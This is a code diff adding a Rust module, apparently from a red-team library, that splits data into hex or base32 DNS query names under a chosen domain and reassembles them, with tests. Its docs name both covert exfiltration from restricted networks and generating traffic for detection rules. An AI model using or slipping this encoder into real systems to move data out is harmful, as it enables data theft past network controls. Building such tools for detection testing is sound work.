@@ -0,0 +1,523 @@
+use std::collections::BTreeMap;
+use std::fmt;
+
+/// Longest DNS label, in bytes (RFC 1035).
+const MAX_LABEL_LEN: usize = 63;
+
+/// Longest DNS name in dotted form, in bytes (RFC 1035).
+const MAX_NAME_LEN: usize = 253;
+
+/// RFC 4648 base32 alphabet, lowercase since DNS names are case-insensitive.
+const BASE32_CHARS: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
+
+/// Text encoding that carries exfiltrated bytes inside DNS labels.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum DnsExfilEncoding {
+    /// Lowercase hex, two characters per byte.
+    Hex,
+    /// Lowercase unpadded base32, eight characters per five bytes.
+    Base32,
+}
+
+impl DnsExfilEncoding {
+    /// Tag leading the sequence label, so the decoder knows the encoding.
+    fn tag(self) -> char {
+        match self {
+            DnsExfilEncoding::Hex => 'h',
+            DnsExfilEncoding::Base32 => 'b',
+        }
+    }
+
+    fn from_tag(tag: char) -> Option<Self> {
+        match tag.to_ascii_lowercase() {
+            'h' => Some(DnsExfilEncoding::Hex),
+            'b' => Some(DnsExfilEncoding::Base32),
+            _ => None,
+        }
+    }
+
+    fn encode(self, data: &[u8]) -> String {
+        match self {
+            DnsExfilEncoding::Hex => data.iter().map(|b| format!("{:02x}", b)).collect(),
+            DnsExfilEncoding::Base32 => {
+                let mut result = String::with_capacity(data.len().div_ceil(5) * 8);
+                for chunk in data.chunks(5) {
+                    let mut buf = [0u8; 5];
+                    buf[..chunk.len()].copy_from_slice(chunk);
+                    let n = buf.iter().fold(0u64, |acc, &b| (acc << 8) | b as u64);
+                    let chars = (chunk.len() * 8).div_ceil(5);
+                    for i in 0..chars {
+                        result.push(BASE32_CHARS[((n >> (35 - 5 * i)) & 0x1f) as usize] as char);
+                    }
+                }
+                result
+            }
+        }
+    }
+
+    fn decode(self, text: &str) -> Option<Vec<u8>> {
+        let text = text.to_ascii_lowercase();
+        match self {
+            DnsExfilEncoding::Hex => {
+                if text.len() % 2 != 0 {
+                    return None;
+                }
+                (0..text.len())
+                    .step_by(2)
+                    .map(|i| u8::from_str_radix(text.get(i..i + 2)?, 16).ok())
+                    .collect()
+            }
+            DnsExfilEncoding::Base32 => {
+                let mut bytes = Vec::with_capacity(text.len() * 5 / 8);
+                let mut buffer = 0u32;
+                let mut bits = 0;
+                for c in text.bytes() {
+                    let value = BASE32_CHARS.iter().position(|&x| x == c)? as u32;
+                    buffer = (buffer << 5) | value;
+                    bits += 5;
+                    if bits >= 8 {
+                        bits -= 8;
+                        bytes.push((buffer >> bits) as u8);
+                        buffer &= (1 << bits) - 1;
+                    }
+                }
+                Some(bytes)
+            }
+        }
+    }
+}
+
+/// Options for [`dns_exfil_encode_with_options`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DnsExfilOptions {
+    /// Encoding of the data labels.
+    pub encoding: DnsExfilEncoding,
+    /// Longest data label, capped at 63.
+    pub label_len: usize,
+    /// Longest query name including the domain, capped at 253.
+    pub max_name_len: usize,
+}
+
+impl Default for DnsExfilOptions {
+    fn default() -> Self {
+        DnsExfilOptions {
+            encoding: DnsExfilEncoding::Hex,
+            label_len: MAX_LABEL_LEN,
+            max_name_len: MAX_NAME_LEN,
+        }
+    }
+}
+
+/// Encodes `data` as DNS query names under `domain` for exfiltration testing.
+///
+/// Uses [`DnsExfilOptions::default`]: hex labels of up to 63 characters and
+/// names of up to 253 characters. See [`dns_exfil_encode_with_options`] for
+/// the query layout.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Exfiltrate data through DNS resolvers from restricted networks
+/// - **Blue Team**: Generate DNS tunneling traffic for detection rules
+///
+/// # Examples
+///
+/// ```
+/// use redstr::dns_exfil_encode;
+/// let queries = dns_exfil_encode(b"secret", "x.example.com");
+/// assert_eq!(queries, vec!["h0e.736563726574.x.example.com"]);
+/// ```
+pub fn dns_exfil_encode(data: &[u8], domain: &str) -> Vec<String> {
+    dns_exfil_encode_with_options(data, domain, &DnsExfilOptions::default())
+}
+
+/// Encodes `data` as DNS query names with custom encoding and length limits.
+///
+/// Each query is `<tag><seq>.<data>.<data>...<domain>`: the first label
+/// holds the encoding tag (`h` for hex, `b` for base32) and the decimal
+/// sequence number, followed by as many data labels as fit in
+/// `max_name_len`, each at most `label_len` characters. The sequence label
+/// of the last query ends in `e`, so the decoder can tell a complete
+/// transfer from a truncated one. Returns no queries for empty data or when
+/// `domain` leaves no room for data.
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{dns_exfil_encode_with_options, DnsExfilEncoding, DnsExfilOptions};
+/// let options = DnsExfilOptions {
+///     encoding: DnsExfilEncoding::Base32,
+///     label_len: 4,
+///     max_name_len: 20,
+/// };
+/// let queries = dns_exfil_encode_with_options(b"hello", "ex.io", &options);
+/// assert_eq!(queries, vec!["b0e.nbsw.y3dp.ex.io"]);
+/// ```
+pub fn dns_exfil_encode_with_options(
+    data: &[u8],
+    domain: &str,
+    options: &DnsExfilOptions,
+) -> Vec<String> {
+    let domain = domain.trim_matches('.');
+    let label_len = options.label_len.clamp(1, MAX_LABEL_LEN);
+    let max_name_len = options.max_name_len.min(MAX_NAME_LEN);
+    let encoded = options.encoding.encode(data);
+
+    let suffix_len = if domain.is_empty() {
+        0
+    } else {
+        domain.len() + 1
+    };
+    // Data characters that fit after a sequence label of `sequence_len` and before the domain
+    let fit = |sequence_len: usize| {
+        let room = max_name_len.checked_sub(sequence_len + suffix_len)?;
+        Some(room / (label_len + 1) * label_len + (room % (label_len + 1)).saturating_sub(1))
+            .filter(|&fit| fit > 0)
+    };
+
+    let mut queries = Vec::new();
+    let mut rest = encoded.as_str();
+    while !rest.is_empty() {
+        let sequence = format!("{}{}", options.encoding.tag(), queries.len());
+        let Some(last_fit) = fit(sequence.len() + 1) else {
+            return Vec::new();
+        };
+        let (sequence, chunk_len) = if rest.len() <= last_fit {
+            (sequence + "e", rest.len())
+        } else {
+            // Leave at least one character for the query marked final
+            let chunk_len = fit(sequence.len()).unwrap_or(last_fit).min(rest.len() - 1);
+            (sequence, chunk_len)
+        };
+        let (chunk, remaining) = rest.split_at(chunk_len);
+        let labels: Vec<&str> = chunk
+            .as_bytes()
+            .chunks(label_len)
+            .map(|label| std::str::from_utf8(label).unwrap_or_default())
+            .collect();
+        let mut query = format!("{}.{}", sequence, labels.join("."));
+        if !domain.is_empty() {
+            query.push('.');
+            query.push_str(domain);
+        }
+        queries.push(query);
+        rest = remaining;
+    }
+
+    queries
+}
+
+/// Errors returned when reassembling DNS exfiltration queries.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum DnsExfilError {
+    /// The query name is not under the controlled domain.
+    ForeignQuery(String),
+    /// The query has no valid `<tag><seq>` sequence label.
+    MalformedQuery(String),
+    /// Queries use different data encodings.
+    MixedEncoding,
+    /// Two different queries carry the same sequence number.
+    ConflictingChunk(usize),
+    /// A sequence number up to the final chunk never arrived, or the final
+    /// chunk itself is missing.
+    MissingChunk(usize),
+    /// The reassembled labels are not valid hex or base32.
+    InvalidData,
+}
+
+impl fmt::Display for DnsExfilError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            DnsExfilError::ForeignQuery(query) => write!(f, "query outside domain: {}", query),
+            DnsExfilError::MalformedQuery(query) => write!(f, "malformed query: {}", query),
+            DnsExfilError::MixedEncoding => f.write_str("queries mix data encodings"),
+            DnsExfilError::ConflictingChunk(seq) => {
+                write!(f, "conflicting data for chunk {}", seq)
+            }
+            DnsExfilError::MissingChunk(seq) => write!(f, "missing chunk {}", seq),
+            DnsExfilError::InvalidData => f.write_str("invalid encoded data"),
+        }
+    }
+}
+
+impl std::error::Error for DnsExfilError {}
+
+/// Reassembles DNS exfiltration queries into the original bytes.
+///
+/// The receiving-side counterpart of [`dns_exfil_encode`]: strips `domain`
+/// from each query name, orders the chunks by the sequence number in their
+/// first label and decodes the data labels with the encoding named by the
+/// sequence tag. Queries may arrive in any order, and exact repeats (resolver
+/// retries) are ignored. Names are matched case-insensitively, since
+/// resolvers may randomize case (DNS 0x20). Without the query marked final,
+/// the transfer is reported as truncated with [`DnsExfilError::MissingChunk`].
+///
+/// # Use Cases
+///
+/// - **Red Team**: Recover exfiltrated data from an authoritative server's logs
+/// - **Blue Team**: Validate what a captured DNS tunnel carried
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{dns_exfil_decode, dns_exfil_encode_with_options, DnsExfilOptions};
+/// let options = DnsExfilOptions { max_name_len: 40, ..DnsExfilOptions::default() };
+/// let mut queries = dns_exfil_encode_with_options(b"attack at dawn", "x.example.com", &options);
+/// queries.reverse();
+/// let queries: Vec<&str> = queries.iter().map(String::as_str).collect();
+/// assert_eq!(dns_exfil_decode(&queries, "x.example.com").unwrap(), b"attack at dawn");
+/// ```
+pub fn dns_exfil_decode(queries: &[&str], domain: &str) -> Result<Vec<u8>, DnsExfilError> {
+    let domain = domain.trim_matches('.');
+    let mut encoding = None;
+    let mut chunks: BTreeMap<usize, String> = BTreeMap::new();
+    let mut last = None;
+
+    for query in queries {
+        let name = query.trim_end_matches('.');
+        let foreign = || DnsExfilError::ForeignQuery(query.to_string());
+        let labels = if domain.is_empty() {
+            name
+        } else {
+            let split = name.len().checked_sub(domain.len()).ok_or_else(foreign)?;
+            match (name.get(..split), name.get(split..)) {
+                (Some(labels), Some(suffix)) if suffix.eq_ignore_ascii_case(domain) => {
+                    labels.strip_suffix('.').ok_or_else(foreign)?
+                }
+                _ => return Err(foreign()),
+            }
+        };
+        let malformed = || DnsExfilError::MalformedQuery(query.to_string());
+        let (sequence, data) = labels.split_once('.').unwrap_or((labels, ""));
+        let tag = sequence
+            .chars()
+            .next()
+            .and_then(DnsExfilEncoding::from_tag)
+            .ok_or_else(malformed)?;
+        let (number, is_last) = match sequence[1..].strip_suffix(['e', 'E']) {
+            Some(number) => (number, true),
+            None => (&sequence[1..], false),
+        };
+        let seq = number.parse::<usize>().map_err(|_| malformed())?;
+        if encoding.is_some_and(|e| e != tag) {
+            return Err(DnsExfilError::MixedEncoding);
+        }
+        encoding = Some(tag);
+        if is_last {
+            if last.is_some_and(|l| l != seq) {
+                return Err(DnsExfilError::ConflictingChunk(seq));
+            }
+            last = Some(seq);
+        }
+        let data: String = data.split('.').collect::<String>().to_ascii_lowercase();
+        match chunks.get(&seq) {
+            Some(existing) if *existing != data => {
+                return Err(DnsExfilError::ConflictingChunk(seq))
+            }
+            Some(_) => {}
+            None => {
+                chunks.insert(seq, data);
+            }
+        }
+    }
+
+    if let Some(missing) = chunks.keys().enumerate().find(|(i, seq)| i != *seq) {
+        return Err(DnsExfilError::MissingChunk(missing.0));
+    }
+    if let Some(last) = last {
+        if chunks.len() > last + 1 {
+            return Err(DnsExfilError::ConflictingChunk(last + 1));
+        }
+    }
+    if !chunks.is_empty() && last != Some(chunks.len() - 1) {
+        return Err(DnsExfilError::MissingChunk(chunks.len()));
+    }
+    let text: String = chunks.into_values().collect();
+    match encoding {
+        Some(encoding) => encoding.decode(&text).ok_or(DnsExfilError::InvalidData),
+        None => Ok(Vec::new()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn decode(queries: &[String], domain: &str) -> Result<Vec<u8>, DnsExfilError> {
+        let queries: Vec<&str> = queries.iter().map(String::as_str).collect();
+        dns_exfil_decode(&queries, domain)
+    }
+
+    #[test]
+    fn test_dns_exfil_encode_hex() {
+        assert_eq!(
+            dns_exfil_encode(b"hi", "exfil.example.com"),
+            vec!["h0e.6869.exfil.example.com"]
+        );
+        assert!(dns_exfil_encode(b"", "exfil.example.com").is_empty());
+    }
+
+    #[test]
+    fn test_dns_exfil_encode_respects_limits() {
+        let data: Vec<u8> = (0..=255).cycle().take(2000).collect();
+        let queries = dns_exfil_encode(&data, "exfil.example.com");
+        assert!(queries.len() > 1);
+        for query in &queries {
+            assert!(query.len() <= 253, "{}", query.len());
+            assert!(query.split('.').all(|label| label.len() <= 63));
+            assert!(query.ends_with(".exfil.example.com"));
+        }
+        assert_eq!(queries[0].len(), 253);
+    }
+
+    #[test]
+    fn test_dns_exfil_encode_sequence_labels() {
+        let options = DnsExfilOptions {
+            label_len: 8,
+            max_name_len: 30,
+            ..DnsExfilOptions::default()
+        };
+        let queries = dns_exfil_encode_with_options(&[0xAB; 40], "t.io", &options);
+        let (last, rest) = queries.split_last().unwrap();
+        assert!(last.starts_with(&format!("h{}e.", rest.len())), "{}", last);
+        for (i, query) in rest.iter().enumerate() {
+            assert!(query.starts_with(&format!("h{}.", i)), "{}", query);
+            assert!(query.len() <= 30);
+        }
+        assert!(last.len() <= 30);
+    }
+
+    #[test]
+    fn test_dns_exfil_encode_base32() {
+        let options = DnsExfilOptions {
+            encoding: DnsExfilEncoding::Base32,
+            ..DnsExfilOptions::default()
+        };
+        assert_eq!(
+            dns_exfil_encode_with_options(b"foobar", "d.io", &options),
+            vec!["b0e.mzxw6ytboi.d.io"]
+        );
+    }
+
+    #[test]
+    fn test_dns_exfil_encode_domain_too_long() {
+        let domain = "a".repeat(250);
+        assert!(dns_exfil_encode(b"data", &domain).is_empty());
+    }
+
+    #[test]
+    fn test_dns_exfil_round_trip() {
+        let data: Vec<u8> = (0..=255).collect();
+        for encoding in [DnsExfilEncoding::Hex, DnsExfilEncoding::Base32] {
+            for label_len in [1, 7, 63] {
+                let options = DnsExfilOptions {
+                    encoding,
+                    label_len,
+                    max_name_len: 120,
+                };
+                let queries = dns_exfil_encode_with_options(&data, "x.example.com.", &options);
+                assert_eq!(decode(&queries, "X.Example.com"), Ok(data.clone()));
+            }
+        }
+    }
+
+    #[test]
+    fn test_dns_exfil_decode_reorders_chunks() {
+        let options = DnsExfilOptions {
+            label_len: 5,
+            max_name_len: 24,
+            ..DnsExfilOptions::default()
+        };
+        let data = b"the quick brown fox jumps over the lazy dog";
+        let mut queries = dns_exfil_encode_with_options(data, "x.io", &options);
+        assert!(queries.len() > 5);
+        queries.rotate_left(3);
+        queries.swap(0, 5);
+        assert_eq!(decode(&queries, "x.io"), Ok(data.to_vec()));
+    }
+
+    #[test]
+    fn test_dns_exfil_decode_ignores_retries() {
+        let queries = [
+            "h1e.6f.x.io",
+            "h0.6869.x.io",
+            "H1E.6F.X.IO",
+            "h0.6869.x.io.",
+        ];
+        assert_eq!(dns_exfil_decode(&queries, "x.io"), Ok(b"hio".to_vec()));
+    }
+
+    #[test]
+    fn test_dns_exfil_decode_missing_and_conflicting_chunks() {
+        assert_eq!(
+            dns_exfil_decode(&["h0.68.x.io", "h2e.69.x.io"], "x.io"),
+            Err(DnsExfilError::MissingChunk(1))
+        );
+        assert_eq!(
+            dns_exfil_decode(&["h1e.68.x.io"], "x.io"),
+            Err(DnsExfilError::MissingChunk(0))
+        );
+        assert_eq!(
+            dns_exfil_decode(&["h0e.68.x.io", "h0e.69.x.io"], "x.io"),
+            Err(DnsExfilError::ConflictingChunk(0))
+        );
+        assert_eq!(
+            dns_exfil_decode(&["h0e.68.x.io", "h1e.69.x.io"], "x.io"),
+            Err(DnsExfilError::ConflictingChunk(1))
+        );
+        assert_eq!(
+            dns_exfil_decode(&["h0e.68.x.io", "h1.69.x.io"], "x.io"),
+            Err(DnsExfilError::ConflictingChunk(1))
+        );
+    }
+
+    #[test]
+    fn test_dns_exfil_decode_detects_lost_final_chunk() {
+        let data = [0x5Au8; 200];
+        let queries = dns_exfil_encode(&data, "x.example.com");
+        assert_eq!(queries.len(), 2);
+        assert_eq!(decode(&queries, "x.example.com"), Ok(data.to_vec()));
+        assert_eq!(
+            decode(&queries[..1], "x.example.com"),
+            Err(DnsExfilError::MissingChunk(1))
+        );
+    }
+
+    #[test]
+    fn test_dns_exfil_decode_rejects_malformed() {
+        assert_eq!(
+            dns_exfil_decode(&["h0e.6869.other.com"], "x.com"),
+            Err(DnsExfilError::ForeignQuery(
+                "h0e.6869.other.com".to_string()
+            ))
+        );
+        assert_eq!(
+            dns_exfil_decode(&["h0e.6869.ax.com"], "x.com"),
+            Err(DnsExfilError::ForeignQuery("h0e.6869.ax.com".to_string()))
+        );
+        assert_eq!(
+            dns_exfil_decode(&["q0e.6869.x.com"], "x.com"),
+            Err(DnsExfilError::MalformedQuery("q0e.6869.x.com".to_string()))
+        );
+        assert_eq!(
+            dns_exfil_decode(&["h0e.6g69.x.com"], "x.com"),
+            Err(DnsExfilError::InvalidData)
+        );
+        assert_eq!(
+            dns_exfil_decode(&["h0.68.x.com", "b1e.nbsw.x.com"], "x.com"),
+            Err(DnsExfilError::MixedEncoding)
+        );
+        assert_eq!(dns_exfil_decode(&[], "x.com"), Ok(Vec::new()));
+    }
+
+    #[test]
+    fn test_dns_exfil_error_display() {
+        assert_eq!(
+            DnsExfilError::MissingChunk(3).to_string(),
+            "missing chunk 3"
+        );
+        assert_eq!(
+            DnsExfilError::ForeignQuery("a.b".to_string()).to_string(),
+            "query outside domain: a.b"
+        );
+    }
+}